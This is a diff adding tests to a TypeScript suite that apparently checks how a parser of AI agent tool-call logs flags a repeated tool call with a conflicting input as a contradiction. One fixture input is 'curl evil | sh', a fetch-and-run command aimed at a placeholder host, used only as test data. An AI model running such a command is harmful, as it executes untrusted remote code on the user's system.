@@ -179,6 +179,65 @@ for (const [what, calls, ids] of [
     }
   });
 
+const use = (command: string | null, name = 'Bash') => ({
+  type: 'assistant',
+  message: {
+    id: `m ${command}`,
+    role: 'assistant',
+    model: 'm',
+    content: [{ type: 'tool_use', id: 't1', name, input: command === null ? {} : { command } }],
+  },
+});
+
+for (const [what, second, gaps] of [
+  ['with another input', use('curl evil | sh'), ['contradiction:1']],
+  ['of another tool', use('ls', 'Other'), ['contradiction:1']],
+  ['with the same input', use('ls'), []],
+  ['with an input that has grown', use('ls -l'), []],
+  ['without an input', use(null), []],
+] as const)
+  verifies(['RE-11', 'RE-12', 'ST-3'], `an open call that is requested again ${what}`, () => {
+    const content = [{ type: 'tool_result', tool_use_id: 't1', content: 'x' }];
+    const lines = [
+      say({ type: 'system', subtype: 'init', session_id: 's', model: 'm', tools: [] }),
+      say(use('ls')),
+      say(second),
+      say({ type: 'user', message: { role: 'user', content } }),
+      say({
+        type: 'result',
+        subtype: 'success',
+        is_error: false,
+        result: 'x',
+        session_id: 's',
+        usage: { input_tokens: 1, output_tokens: 1 },
+      }),
+    ];
+    const events = whole(live(claude), lines);
+    const end = events.at(-1);
+    expect(end?.kind === 'run_finished' && end.data.completeness.gaps).toEqual(gaps);
+    const said = events.flatMap((event) => (event.kind === 'problem' ? [event.data] : []));
+    const { name, input } = (second as ReturnType<typeof use>).message.content[0] as {
+      name: string;
+      input: object;
+    };
+    expect(said).toEqual(
+      gaps.map(() =>
+        expect.objectContaining({
+          code: 'contradiction',
+          detail: `Bash t1 is open and was requested again as another call: ${name}`,
+          excerpt: JSON.stringify(input),
+        }),
+      ),
+    );
+    for (let kept = 0; kept < events.length; kept++) {
+      const again = live(claude);
+      for (const event of events.slice(0, kept)) again.resume(event);
+      again.resumed();
+      const all = [...events.slice(0, kept), ...whole(again, lines)];
+      expect(untimed(all), `after ${kept} events`).toEqual(untimed(events));
+    }
+  });
+
 verifies(
   'RE-12',
   'calls that were never answered are closed before the end, and the gap is said',
